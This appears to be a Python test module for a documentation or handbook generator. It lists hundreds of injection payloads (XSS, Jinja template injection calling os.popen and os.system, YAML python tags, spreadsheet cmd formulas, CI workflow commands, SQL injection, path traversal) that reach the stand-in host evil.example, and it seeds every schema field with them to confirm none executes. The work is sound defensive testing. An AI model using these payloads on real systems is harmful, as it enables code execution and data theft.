"""Labels that try to run, and the repositories that hold them in every field where a person may write.

Each string calls `hb_ran()`, asks evil.example for something, or works out 7*191: a test can see it run.
"""

from __future__ import annotations

import json
import re
from base64 import b64encode
from collections import Counter
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from functools import cache
from html import unescape
from typing import Any
from unicodedata import normalize
from urllib.parse import quote, unquote
from zlib import crc32

from handbook.rules import schema
from handbook.rules.checks import advice
from handbook.text.signs import folded
from tests.repository import MKDOCS, Files

RUN = "hb_ran()"
EVIL = "https://evil.example"
SUM = "7*191"
ANSWER = str(7 * 191)
SCRIPT = f"<script>{RUN}</script>"


# --- what is tried --------------------------------------------------------------------------------


def _numbered(text: str, form: str) -> str:
    return "".join(form.format(ord(sign)) for sign in text)


def _zipped(text: str, times: int) -> str:
    """Write a text as entities of entities, so many times over."""
    text = text.replace("<", "&lt;").replace(">", "&gt;")
    for _ in range(times - 1):
        text = text.replace("&", "&amp;")
    return text


SCRIPTS = (
    SCRIPT,
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script\t>{RUN}</script\t>",
    f"<script\n>{RUN}</script\n>",
    f"<script/hb>{RUN}</script/hb>",
    f"</p></div></article>{SCRIPT}",
    f"</script>{SCRIPT}",
    f"</title>{SCRIPT}",
    f"</textarea></style></noscript>{SCRIPT}",
    f"</code></pre>{SCRIPT}",
    f'"></a>{SCRIPT}',
    f"'></a>{SCRIPT}",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={EVIL}/a.js></script>",
    "<script src=//evil.example/b.js></script>",
    f"<script src='{EVIL}/c.js' async defer></script>",
    f'<script type=module>import("{EVIL}/d.js")</script>',
    f"<script>/*{RUN}*/{RUN}/*</script>*/",
    f"<script>{RUN}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u2039script\u203a{RUN}\u2039/script\u203a",
    quote(SCRIPT, safe="()"),
    quote(quote(SCRIPT, safe="()"), safe="()"),
)
_ELEMENTS = (
    ("img", "src=x onerror"),
    ("image", "src=x onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("html", "onclick"),
    ("video", "src=x onerror"),
    ("audio", "src=x onerror"),
    ("source", "onerror"),
    ("input", "autofocus onfocus"),
    ("select", "autofocus onfocus"),
    ("textarea", "autofocus onfocus"),
    ("button", "autofocus onfocus"),
    ("details", "open ontoggle"),
    ("marquee", "onstart"),
    ("object", "data=x onerror"),
    ("embed", "src=x onerror"),
    ("iframe", "onload"),
    ("style", "onload"),
    ("link", "rel=stylesheet href=x onerror"),
    ("a", "tabindex=0 autofocus onfocus"),
    ("div", "onpointerover"),
    ("p", "onclick"),
    ("form", "onsubmit"),
    ("dialog", "open onclose"),
    ("hb-own", "tabindex=0 autofocus onfocus"),
    ("xss", "style=animation-name:x onanimationstart"),
)
HANDLERS = (
    *(f"<{name} {said}={RUN}>" for name, said in _ELEMENTS),
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x ONERROR={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img src='x' onerror='{RUN}'>",
    f"<img src=`x` onerror=`{RUN}`>",
    f"<img\nsrc=x\nonerror\n=\n{RUN}\n>",
    f"<img src=x onerror={RUN}",
    f'<img """><img src=x onerror={RUN}>">',
    f"<img src=x onerror={_numbered(RUN, '&#{};')}>",
    f"<img src=x onerror={_numbered(RUN, '&#x{:x};')}>",
    f'" onmouseover={RUN} "',
    f"' onmouseover={RUN} '",
    f'" autofocus onfocus="{RUN}',
    f'x" style="animation:a" onanimationend="{RUN}',
    f"` onclick={RUN} `",
    f"x onclick={RUN}",
)
ELEMENTS = (
    f"<svg>{SCRIPT}</svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>a</text></a></svg>",
    f"<svg><use href={EVIL}/u.svg#a></use></svg>",
    f"<svg><image href={EVIL}/i.svg></image></svg>",
    f"<svg><foreignObject>{SCRIPT}</foreignObject></svg>",
    f"<svg><style>@import '{EVIL}/s.css'</style></svg>",
    f"<math><mtext></mtext><a href=javascript:{RUN}>a</a></math>",
    f"<math><mglyph><style><img src=x onerror={RUN}></style></mglyph></math>",
    f"<math href=javascript:{RUN}>a</math>",
    f"<template>{SCRIPT}</template>",
    f"<template shadowrootmode=open>{SCRIPT}</template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<iframe src={EVIL}/f></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="{SCRIPT}"></iframe>',
    f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>",
    f"<frameset><frame src={EVIL}/g></frameset>",
    f"<object data={EVIL}/o></object>",
    f"<object data='data:text/html,{SCRIPT}'></object>",
    f"<embed src={EVIL}/e>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/r'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href={EVIL}/>",
    f"<link rel=stylesheet href={EVIL}/l.css>",
    f"<link rel=prefetch href={EVIL}/p>",
    f"<link rel=preload as=script href={EVIL}/p.js>",
    f"<form action={EVIL}/q><input name=a><button>Go</button></form>",
    f"<form><button formaction=javascript:{RUN}>Go</button></form>",
    f"<form id=__config><input name=base value={EVIL}></form>",
    f"<style>@import url({EVIL}/t.css);</style>",
    f"<style>body{{background:url({EVIL}/b.png)}}</style>",
    f"<p style='background:url({EVIL}/c.png)'>a</p>",
    f"<img src={EVIL}/d.png>",
    f"<img srcset='{EVIL}/e.png 1x'>",
    f"<picture><source srcset={EVIL}/f.png><img></picture>",
    f"<video poster={EVIL}/g.png src={EVIL}/g.mp4 autoplay></video>",
    f"<audio src={EVIL}/h.mp3 autoplay></audio>",
    f"<table background={EVIL}/i.png><td>a</table>",
    f"<a href={EVIL} ping={EVIL}/j>a</a>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<portal src={EVIL}/k></portal>",
    f"<a id=location name=document href='{EVIL}'>a</a>",
)
ATTRIBUTES = (
    f"{{: onclick={RUN} }}",
    f"{{: onclick='{RUN}' }}",
    f'{{: onclick="{RUN}" }}',
    f"{{:onclick={RUN}}}",
    f"{{ .hb onclick={RUN} }}",
    f"{{ #hb onclick={RUN} }}",
    f"{{.hb onmouseover={RUN}}}",
    f"{{: style=background:url({EVIL}/a.png) }}",
    f"{{: href=javascript:{RUN} }}",
    f"{{: src={EVIL}/b.png }}",
    f"{{: srcdoc={SCRIPT} }}",
    f"{{: .md-button .copy title={RUN} }}",
    f"{{: #__config data-x={RUN} }}",
    f"a\n{{: onclick={RUN} }}",
    f"# a {{: onclick={RUN} }}",
    f"# a {{ #__drawer onclick={RUN} }}",
    f"*a*{{: onclick={RUN} }}",
    f"`a`{{: onclick={RUN} }}",
    f"[a](#b){{: onclick={RUN} }}",
    f"- a\n{{: onclick={RUN} }}",
    f"| a {{: onclick={RUN} }} | b |",
    f"}} {{: onclick={RUN} }} {{",
    f"\\{{: onclick={RUN} }}",
)
_DISGUISES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"  javascript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"&#1;javascript:{RUN}",
    f"javascript%3A{RUN}",
    f"%6Aavascript:{RUN}",
    f"\\u006aavascript:{RUN}",
    f"javascript://evil.example/%0A{RUN}",
    f"\uff4aavascript:{RUN}",
    f"java\u034fscript:{RUN}",
    f"vbscript:{RUN}",
    f"livescript:{RUN}",
    f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"data:text/html,{SCRIPT}",
    f"data:text/html;base64,{b64encode(SCRIPT.encode()).decode()}#{RUN}",
    f"data:image/svg+xml,<svg onload={RUN}>",
    "//evil.example/a",
    "\\/\\/evil.example/b",
    "/\\evil.example/c",
    "http://evil.example/d",
    "https:evil.example/e",
    "https:/\\evil.example/f",
    "file://evil.example/g",
    "blob:https://evil.example/h",
    "ws://evil.example/i",
)
_LINKING = (
    "{}",
    "[a]({})",
    "[a](<{}>)",
    "![a]({})",
    "<{}>",
    "[a][b]\n\n[b]: {}",
    '<a href="{}">a</a>',
)
# Each disguise bare and as a link of Markdown; the plainest and the most devious in every kind of link.
SCHEMES = tuple(
    form.format(disguise)
    for number, disguise in enumerate(_DISGUISES)
    for form in (_LINKING if number in (0, 2, 5, 21, 24) else (*_LINKING[:2], _LINKING[3 + number % 4]))
)
MARKDOWN = (
    f"<!-- {SCRIPT} -->",
    f"<!--> {SCRIPT}",
    f"--> {SCRIPT} <!--",
    f"<? {SCRIPT} ?>",
    f"<![CDATA[ {SCRIPT} ]]>",
    f"<!DOCTYPE html>{SCRIPT}",
    f"<div markdown>\n\n{SCRIPT}\n\n</div>",
    f'<div markdown="1" onclick="{RUN}">a</div>',
    f"<p markdown=block>[a](javascript:{RUN})</p>",
    f"</div>\n\n# {RUN}",
    f"# {RUN}\n\n## {SCRIPT}",
    f"{RUN}\n=====",
    f"{RUN}\n-----",
    f"    {SCRIPT}",
    f"```\n{SCRIPT}\n```",
    f"```html {{ onclick={RUN} }}\n{SCRIPT}\n```",
    f"``` {{.python #hb onclick={RUN}}}\na\n```",
    f"~~~ {RUN}\n{SCRIPT}",
    f"```mermaid\ngraph TD; A[{SCRIPT}]\n```",
    f"`{SCRIPT}`",
    f"``` {SCRIPT}",
    f"a[^1]\n\n[^1]: {SCRIPT}",
    f"*[a]: {SCRIPT}",
    f'*[Mentor]: " onmouseover={RUN} "',
    f"a\n: {SCRIPT}",
    f"| a | b |\n| --- | --- |\n| {SCRIPT} | {RUN} |",
    f"| {RUN} | a | b |",
    f'!!! note "{RUN}"\n    {SCRIPT}',
    f"!!! {RUN} inline end",
    f'??? note "{SCRIPT}"\n    a',
    f"???+ {RUN}",
    f'=== "{SCRIPT}"\n    a',
    f":material-{RUN}:",
    f":smile: {RUN} :fontawesome-brands-x:",
    f"++ctrl+{RUN}++",
    f"{{++{SCRIPT}++}} {{--a--}} {{==b==}} {{>>{RUN}<<}} {{~~c~>d~~}}",
    f"^^{RUN}^^ ~~a~~ ==b== H~2~O x^2^",
    f"[TOC] {RUN}",
    f"[[{RUN}]] [[_TOC_]]",
    f"- [x] {SCRIPT}",
    f"1. {RUN}\n2. a",
    f"> {SCRIPT}",
    f"***\n{RUN}\n***",
    f"$$ \\href{{javascript:{RUN}}}{{a}} $$",
    f"\\[ {RUN} \\]",
    f"[a]: {EVIL}/a '{RUN}'",
    f'[a]({EVIL}/b "onclick={RUN}")',
    f"![a]({EVIL}/c.png){{: onload={RUN} }}",
    f"[![a]({EVIL}/d.png)]({EVIL}/e)",
    f"![a][b]\n\n[b]: {EVIL}/f.png",
    f"<{EVIL}/g>",
    f"[a](../../../../etc/hosts#{RUN})",
    f"klzzwxh:0000 {RUN} wzxhzdk:1",  # how Markdown marks what it put aside
    f"---\ntitle: {RUN}\nrender_macros: true\n---",
    f"title: {RUN}\ntemplate: evil.html",
    f"*{RUN}* **a** _b_ __c__ `d`",
    f"\\<script\\>{RUN}\\</script\\>",
    f"a  \n{SCRIPT}  \nb",
)
TEMPLATES = (
    f"{{{{ {SUM} }}}}",
    f"{{{{{SUM}}}}}",
    f"{{{{- {SUM} -}}}}",
    f"{{% if true %}}{{{{ {SUM} }}}}{{% endif %}}",
    f"{{%- print({SUM}) -%}}",
    f"{{% set a = {SUM} %}}{{{{ a }}}}",
    f"{{% for a in [{SUM}] %}}{{{{ a }}}}{{% endfor %}}",
    f"{{% raw %}}{{{{ {SUM} }}}}",
    f"{{% endraw %}}{{{{ {SUM} }}}}{{% raw %}}",
    f"{{# {RUN} #}}{{{{ {SUM} }}}}",
    f"{{% include 'mkdocs.yml' %}}{RUN}",
    f"{{% include '../../../../etc/hosts' %}}{RUN}",
    f"{{% import 'os' as os %}}{{{{ os }}}}{RUN}",
    f"{{% extends '{EVIL}/base.html' %}}",
    f"{{{{ cycler.__init__.__globals__.os.popen('echo {RUN}').read() }}}}",
    f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{RUN}",
    f"{{{{ lipsum.__globals__['os'].system('{RUN}') }}}}",
    f"{{{{ self._TemplateReference__context.cycler }}}}{RUN}",
    f"{{{{ config.__class__.__init__.__globals__ }}}}{RUN}",
    f"{{{{ config.site_name }}}}{RUN}",
    f"{{{{ organisation.contacts }}}}{RUN}",
    f"{{{{ handbook.organisation.path }}}}{RUN}",
    f"{{{{ macros_info() }}}}{RUN}",
    "{{ hb_ran() | safe }}",
    f"{{{{ '{SCRIPT}' | safe }}}}",
    f"{{{{ 1/0 }}}}{RUN}",
    f"{{{{ undefined.name.here }}}}{RUN}",
    f"{{{{ range(999999999) | list }}}}{RUN}",
    f"{{% while true %}}{RUN}",
    f"{{{{ {RUN}",
    f"{SUM} }}}} {RUN}",
    f"{{{{ '{{{{' }}}} {SUM} {{{{ '}}}}' }}}}",
    f"{{{{{{{{ {SUM} }}}}}}}}",
    f"&#123;&#123; {SUM} &#125;&#125;",
    f"&lbrace;&lbrace; {SUM} &rbrace;&rbrace;",
    f"{{\u200c{{ {SUM} }}\u200c}}",
    f"${{{SUM}}} #{{{SUM}}} <%= {SUM} %> @({SUM})",
    f"[[${{{SUM}}}]] *{{{SUM}}} ~{{{SUM}}}",
    f"{{name}} {{organisation}} {{0}} {{n.__class__}} {RUN}",
    f"%(name)s %s %n {RUN}",
    f"!ENV [HOME, {RUN}]",
    f"$(echo {RUN}) `echo {RUN}` ; echo {RUN}",
)
INCLUDES = (
    f"--8<-- 'README.md' {RUN}",
    f'--8<-- "{EVIL}/a.md"',
    f"--8<--\nmkdocs.yml\n--8<-- {RUN}",
    f";--8<-- 'mkdocs.yml' {RUN}",
    f"{{!mkdocs.yml!}} {RUN}",
    f"::: handbook.load {RUN}",
    f"<!-- include: mkdocs.yml --> {RUN}",
    f"@import url({EVIL}/b.css)",
)
YAML = (
    f"!!python/object/apply:os.system ['{RUN}']",
    f"!!python/name:os.system {RUN}",
    f"!!python/object/new:subprocess.Popen [{RUN}]",
    f"!<tag:evil.example,1:{RUN}> a",
    f"*alias {RUN}",
    f"&anchor {RUN}",
    f"<<: *{RUN}",
    f"- {RUN}\n- !!binary aGI=",
    f"title: {RUN}",
    f"a: b # {RUN}",
    f"---\n- {RUN}\n...",
    "%TAG ! tag:evil.example,1:",
)
ENTITIES = (
    *(_zipped(SCRIPT, times) for times in range(1, 7)),
    _numbered(SCRIPT, "&#{};"),
    _numbered(SCRIPT, "&#x{:x};"),
    _numbered(SCRIPT, "&#X{:X}"),
    _numbered(SCRIPT, "&#{:07};"),
    _zipped(f"<img src=x onerror={RUN}>", 1),
    _zipped(f"<img src=x onerror={RUN}>", 2),
    f"&LT;script&GT;{RUN}&LT;/script&GT;",
    f"&ltscript&gt{RUN}&lt/script&gt",
    f"&#60script&#62{RUN}&#60/script&#62",
    f"&nvlt;script&nvgt;{RUN}",
    f"&quot; onmouseover={RUN} &quot;",
    f"&#34; onmouseover={RUN} &#34;",
    f"&lpar;{RUN}&rpar; &lsqb;a&rsqb;&lpar;javascript&colon;{RUN}&rpar;",
    f"&vert; {RUN} &vert; &grave;a&grave; &ast;b&ast; &num; c",
    f"&#0;{RUN}&#xD800;&#x110000;",
    f"{'&amp;' * 60}lt;script>{RUN}",
    f"&{'amp;' * 90}#60;script>{RUN}",
    f"{'&lt;b&gt;' * 120}{RUN}",
    f"{'&CounterClockwiseContourIntegral;' * 40}{RUN}",
)
FORMULAS = (
    f"=cmd|'/C {RUN}'!A1",
    f'=HYPERLINK("{EVIL}/a";"a")',
    f'=IMPORTXML("{EVIL}/b","//a")',
    f'=WEBSERVICE("{EVIL}/c")',
    f"={SUM}",
    f"+{SUM}",
    f"-{SUM}",
    f"@SUM({SUM})",
    f"+cmd|'/C {RUN}'!A1",
    f"-2+3+cmd|'/C {RUN}'!A1",
    f"@evil.example/{RUN}",
    f"\t={SUM}",
    f"\t\t+{SUM}",
    f"\n={SUM}",
    f" ={SUM}",
    f'"={SUM}"',
    f'",={SUM},"',
    f'"\n={SUM}\n"',
    f"a,={SUM}",
    f"a;={SUM}",
    f'a;"={SUM};b',
    f'a|"={SUM}|b',
    f"a\n={SUM}",
    f"\uff1d{SUM}",
    f"\uff0b{SUM}",
    f"\uff0d{SUM}",
    f"\uff20{SUM}",
    f"%0A={SUM}",
    f"'={SUM}",
    f'DDE("{RUN}";"a")',
)
CALENDAR = (
    f"a\nBEGIN:VEVENT\nSUMMARY:{RUN}",
    f"a\nEND:VEVENT\nEND:VCALENDAR {RUN}",
    f"a\\nBEGIN:VALARM\\nACTION:PROCEDURE\\nATTACH:{EVIL}/a",
    f"a;b,c:d\\;e\\,f\\\\ {RUN}",
    f"a\n ATTACH:{EVIL}/b",
    f'a";X-HB="{RUN}":b',
    f"a\nORGANIZER:MAILTO:{RUN}",
    f"DTSTART;TZID={RUN}:19700101T000000",
    f"{'ab,;' * 30}{RUN}",
)
BREAKERS = (
    f'"}},{{"a":"{RUN}"}}',
    f'"]}}</script>{SCRIPT}',
    f'\\"}}]}};{RUN};//',
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f"`;{RUN};`",
    f"${{{RUN}}}",
    f"]]>{SCRIPT}",
    f"]]]]><![CDATA[>{SCRIPT}",
    f"-->{SCRIPT}",
    f"--!>{SCRIPT}",
    f"*/{RUN}/*",
    f"a\u2028{RUN}\u2029",
    f"a\u00a0{RUN}\u3000b",
    f"</url></urlset><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>",
    f"<!ENTITY a SYSTEM '{EVIL}/a.dtd'>",
    f"<!DOCTYPE a [<!ENTITY b '{RUN}'>]><a>&b;</a>",
    f'{{"__proto__": {{"a": "{RUN}"}}}}',
    f"__proto__ {RUN}",
    f"constructor.prototype {RUN}",
    f"toString valueOf hasOwnProperty {RUN}",
    f"' OR 1=1; DROP TABLE a; -- {RUN}",
    f"../../{RUN}/../..",
    f"..\\..\\{RUN}",
    f"a\nSet-Cookie: {RUN}",
)
COMMANDS = (
    f"::error::{RUN}",
    f"::error file=a.py,line=1::{RUN}",
    f"::set-output name=a::{RUN}",
    f"::set-env name=PATH::{RUN}",
    f"::add-mask::{RUN}",
    f"::stop-commands::{RUN}",
    f"  ::warning::{RUN}",
    f"a\n::error::{RUN}",
    f"a%0A::error::{RUN}",
    f"##[error]{RUN}",
    f"a ##[add-mask]{RUN}",
    f"##vso[task.setvariable variable=a]{RUN}",
    f"a\n##[group]{RUN}",
    f"<your\n::error::{RUN}>",  # looks unfinished: a warning quotes it
    f"<insert ##[group]{RUN}>",
    f"echo {RUN} >> $GITHUB_ENV",
    f"${{{{ secrets.{RUN} }}}}",
    f"<<EOF\n{RUN}\nEOF",
)
TERMINAL = (
    f"\\x1b[31m{RUN}",
    f"\\033]0;{RUN}\\007",
    f"\\e[2J{RUN}",
    f"^[[1;1H{RUN}",
    f"\u241b[31m{RUN}",
    f"[31m{RUN}[0m",
    f"[bold red]{RUN}[/bold red]",
    f"[link={EVIL}]a[/link]",
)
WORDS = (
    "hb_ran()" * 14,
    "hb_ran()" * 180,
    f"{'a' * 100}{RUN}",
    f"{'W' * 1500}{RUN}",
    f"{'a' * 60}\u200c{'b' * 60}{RUN}",
    RUN + "\u0301" * 60,
    f"{'(' * 200}{RUN}{')' * 200}",
    f"{'[' * 150}{RUN}{']' * 150}",
    f"{'*' * 300}{RUN}",
    f"{'> ' * 150}{RUN}",
    f"{'- ' * 150}{RUN}",
    f"{'`' * 301}{RUN}",
    f"{'{{' * 100}{RUN}",
    f"\U0001f9e8\u200d\U0001f4a5 {RUN}",
    f"\u0627\u0644\u0639\u0631\u0628\u064a\u0629 {RUN}",
    f"\u200c\u200d\u2062{RUN}",
    f"\u115f\u3164{RUN}",
    f"\U000e0041\U000e0042{RUN}",
)
# Everything at once, as what stands in a page's plainest place would be.
TOGETHER = (
    f"[a](javascript:{RUN}) ![b]({EVIL}/a.png) <img src=x onerror={RUN}> {{{{ {SUM} }}}} {{: .a }}",
    f"</pre></code></li></ol></div>{SCRIPT} {{{{ 1/0 }}}} {{% raw %}} *b* `c` &lt;script&gt; <!-- -->",
    f"a\n\n    ![b]({EVIL}/b.png)\n\n- {SCRIPT}\n\n# {RUN}\n\n```\n{SCRIPT}\n```\n\n--8<-- 'README.md'",
)
FAMILIES: Mapping[str, Sequence[str]] = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "elements": ELEMENTS,
    "attributes": ATTRIBUTES,
    "schemes": SCHEMES,
    "markdown": MARKDOWN,
    "templates": TEMPLATES,
    "includes": INCLUDES,
    "yaml": YAML,
    "entities": ENTITIES,
    "formulas": FORMULAS,
    "calendar": CALENDAR,
    "breakers": BREAKERS,
    "commands": COMMANDS,
    "terminal": TERMINAL,
    "words": WORDS,
    "together": TOGETHER,
}
STRINGS = tuple(text for family in FAMILIES.values() for text in family)

# What no text may hold: it is not seen, or turns round what follows. Every other one is shown as it is.
UNSEEN = (
    *(sign for sign in map(chr, range(0x20)) if sign not in "\t\n"),
    *map(chr, range(0x7F, 0xA0)),
    *"\u00ad\u061c\u200b\u200e\u200f\u2060\ufeff",
    *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
)
REFUSED = (
    *(f"a{signs}{RUN}" for signs in UNSEEN),
    f"\r={SUM}",
    f"\x1b[31m{RUN}\x1b[0m",
    f"\x1b]8;;{EVIL}\x07a\x1b]8;;\x07",
    f"\x9b31m{RUN}",
    f"java\x00script:{RUN}",
    f"a\u202e>tpircs/<{RUN}",
)

# Addresses that a schema takes, since all of them lead to https or are a mailbox.
_TAILS = (
    '/"onmouseover="hb_ran()',
    "/'onmouseover='hb_ran()",
    "/`onmouseover=`hb_ran()",
    "/a)<script>hb_ran()</script>",
    "/a)[b](javascript:hb_ran())",
    "/a){:onclick=hb_ran()}",
    "/a>{.b}<img/src=x/onerror=hb_ran()>",
    "/((((hb_ran()))))",
    "/\\\\)hb_ran()",
    "/{{7*191}}",
    "/{%print(7*191)%}",
    "/%22%3E%3Cscript%3Ehb_ran()%3C/script%3E",
    "/%0D%0A::error::hb_ran()",
    "/&quot;onclick=hb_ran()&quot;",
    "/&#x22;onclick=hb_ran()",
    "/?a=javascript:hb_ran()&b=%3Cb%3E",
    "/#javascript:hb_ran()",
    '/#"><svg/onload=hb_ran()>',
    "/*hb_ran()*_b_`c`~~d~~|e|",
    "/-->]]>hb_ran()",
    "/..//..\\..\\hb_ran()",
    "/%00hb_ran()",
    "/\u00e9\uff1cscript\uff1ehb_ran()",
    ":65535/hb_ran()",
    "?hb_ran()",
    "#hb_ran()",
)
LINKS = tuple(f"{EVIL}{tail}" for tail in _TAILS)
MAILBOXES = tuple(
    f"{name}@evil.example"
    for name in (
        "hb_ran",
        "'onclick='hb_ran",
        "`onclick=`hb_ran",
        "{{7*191}}",
        "{|7*191|}",
        "=hb_ran",
        "+hb_ran",
        "-hb_ran",
        "*hb_ran*_a_`b`",
        "hb_ran|a|b",
        "javascript!hb_ran",
        "${hb_ran}",
    )
)


def readable(text: str) -> str:
    """Undo what disguises a text, so that its marker can be found."""
    for _ in range(8):
        text = normalize("NFKC", unescape(unquote(text)))
    return text.replace("amp;", "")


# --- where it is tried ----------------------------------------------------------------------------

NAMES = ("organisation", "program", "cohort")
_WORD = "hostile"
# What a rule for identifiers, days or hours lets through is none of these.
_PROBES = {
    "text": "<b>\"'{{ a }}`|\\</b>",
    "address": "{a|'}@evil.example",
    "link": 'https://evil.example/"><b>{{a}}',
    "file": "hostile.md",
}
RICH = 20_000


@dataclass(frozen=True)
class Field:
    """A place in a schema where a person may write what the handbook shows.

    Attributes:
        kind: text, rich (Markdown), file (Markdown beside program.yml), link, address, or key.
        most: how many characters it takes.
    """

    path: str
    kind: str
    most: int


def fields() -> tuple[Field, ...]:
    """Every place in the three schemas where a hostile text would be taken."""
    found: dict[Field, None] = {}
    for name in NAMES:
        found.update(dict.fromkeys(_walked(name, schema.read(name), name)))
    return tuple(found)


def _whole(name: str, part: Mapping[str, Any]) -> Mapping[str, Any]:
    """Follow a part of a schema to where it is described."""
    while "$ref" in part:
        inside: Any = schema.read(name)
        for step in part["$ref"].removeprefix("#/").split("/"):
            inside = inside[step]
        part = {**inside, **{key: value for key, value in part.items() if key != "$ref"}}
    return part


def _walked(name: str, part: Mapping[str, Any], path: str) -> Iterator[Field]:
    part = _whole(name, part)
    if (here := _field(part, path)) is not None:
        yield here
    for key, inner in part.get("properties", {}).items():
        yield from _walked(name, inner, f"{path}.{key}")
    if (key := _free_key(part, path)) is not None:
        yield key
    if isinstance(part.get("additionalProperties"), Mapping):
        yield from _walked(name, part["additionalProperties"], f"{path}.*")
    if "items" in part:
        yield from _walked(name, part["items"], f"{path}[]")
    for rule in ("then", "else", "if", "allOf", "anyOf", "oneOf"):
        inside = part.get(rule, ())
        for inner in inside if isinstance(inside, Sequence) else [inside]:
            yield from _walked(name, inner, path)


def _field(part: Mapping[str, Any], path: str) -> Field | None:
    kinds = part.get("type", ())
    if "string" not in ([kinds] if isinstance(kinds, str) else kinds) or "enum" in part:
        return None
    kind = _kind(part.get("pattern", ""))
    most = part.get("maxLength", RICH)
    return Field(path, "rich" if kind == "text" and most >= RICH else kind, most) if kind else None


def _kind(pattern: str) -> str:
    if re.search(pattern, _WORD):  # a text, or a rule for words: no address and no file
        return "text" if re.search(pattern, _PROBES["text"]) else ""
    return next((kind for kind, probe in _PROBES.items() if re.search(pattern, probe)), "")


def _free_key(part: Mapping[str, Any], path: str) -> Field | None:
    """A mapping whose keys are a person's own words."""
    names = part.get("propertyNames", {})
    free = part.get("additionalProperties", False) is not False and "enum" not in names
    if not free or _kind(names.get("pattern", "")) != "text":
        return None
    return Field(f"{path}{{}}", "key", names.get("maxLength", RICH))


# --- repositories that hold it --------------------------------------------------------------------

Deal = Callable[[Field], str]
START = "2027-02-01"
ROLES = ("mentor", "mentee", "coordinator", "sponsor", "line-manager")
PURPOSES = (
    "program", "concern", "safeguarding", "union", "equality", "wellbeing", "privacy", "access",
)  # fmt: skip
FORMS = ("baseline", "midpoint", "end", "session", "sign-up")
PLACES = ("first", "midpoint", "closing")


def _one_of(names: Sequence[str], number: int) -> str:
    return names[(number - 1) % len(names)]


def _day(number: int) -> str:
    return _one_of(("monday", "tuesday", "wednesday", "thursday", "friday"), number)


# What an entry needs beside its texts; `n` counts the entries of its list from 1, `all` is their number.
_GIVEN: Mapping[str, Callable[[int, int], Mapping[str, Any]]] = {
    "organisation.privacy": lambda n, all: {"basis": "consent"},
    "organisation.contacts[]": lambda n, all: {"purpose": _one_of(PURPOSES, n)},
    "program": lambda n, all: {
        "commitment": {"sessions": max(3, all), "minutes": 60, "every_weeks": 3},
        "sign_up": {"opens": {"week": -8}, "closes": {"week": -3}},
    },
    "program.sponsor": lambda n, all: {"consent": "public"},
    "program.goals[]": lambda n, all: {"id": f"goal-{n}", "benefits": ["mentor"]},
    "program.goals[].measure": lambda n, all: {"baseline": 20, "target": 80, "form": f"form-{n}"},
    "program.topics[]": lambda n, all: {"id": f"topic-{n}"},
    "program.training[]": lambda n, all: {"id": f"module-{n}"},
    "program.training[].activities[]": lambda n, all: {"minutes": 5},
    "program.sessions[]": lambda n, all: {
        "id": f"session-{n}",
        "place": PLACES[n - 1] if n <= len(PLACES) else "topical",
        "minutes": 20 * all,
        "week": 1 + n,
    },
    "program.sessions[].agenda[]": lambda n, all: {"minutes": 20},
    "program.milestones[]": lambda n, all: {"id": f"milestone-{n}", "week": 3 + n, "weekday": _day(n)},
    "program.check_ins[]": lambda n, all: {"id": f"check-in-{n}", "week": 1 + n, "weekday": _day(n)},
    "program.forms[]": lambda n, all: {
        "id": f"form-{n}",
        "purpose": _one_of(FORMS, n),
        # One form asks what the question bank has, or its texts would be on no page.
        **({"asks": []} if _one_of(FORMS, n) == "end" else {}),
        "opens": {"week": 4 + n},
        "closes": {"week": 8 + n},
    },
    "program.playbook.survey.take[]": lambda n, all: {"asked": ["baseline", "end"]},
    "program.playbook.sheets.take[]": lambda n, all: {"look": "certificate"} if n == 2 else {},
    "program.playbook.launch.take[]": lambda n, all: {"week": n, "who": _one_of(ROLES, n)},
    "program.playbook.messages.take[]": lambda n, all: {"week": n},
    "program.playbook.recognition.take[].agenda[]": lambda n, all: {"minutes": 5},
    "program.playbook.kit.take[].agenda[]": lambda n, all: {"minutes": 5},
    "cohort": lambda n, all: {
        "start": START,
        "pairings": [
            {
                "mentor": f"person-{first}",
                "mentee": f"person-{first + 1 if first < all else 2}",
                "topics": [f"topic-{1 + first % all}"],
                "goals": [f"goal-{1 + first % all}"],
                "confirmed": {"mentor": "2027-01-20", "mentee": "2027-01-20"},
                "announce": "2027-01-29",
            }
            for first in range(1, all + 1, 2)
        ],
    },
    "cohort.people[]": lambda n, all: {
        "id": f"person-{n}",
        "role": "mentor" if n % 2 else "mentee",
        "consent": "public",
        "capacity": 2,
    },
    "cohort.results": lambda n, all: {
        "measures": {f"goal-{n}": {"actual": 60, "n": 12} for n in range(1, all, 2)}
    },
}


@dataclass
class Maker:
    """Makes valid documents in which every text is dealt, from the schemas alone.

    Attributes:
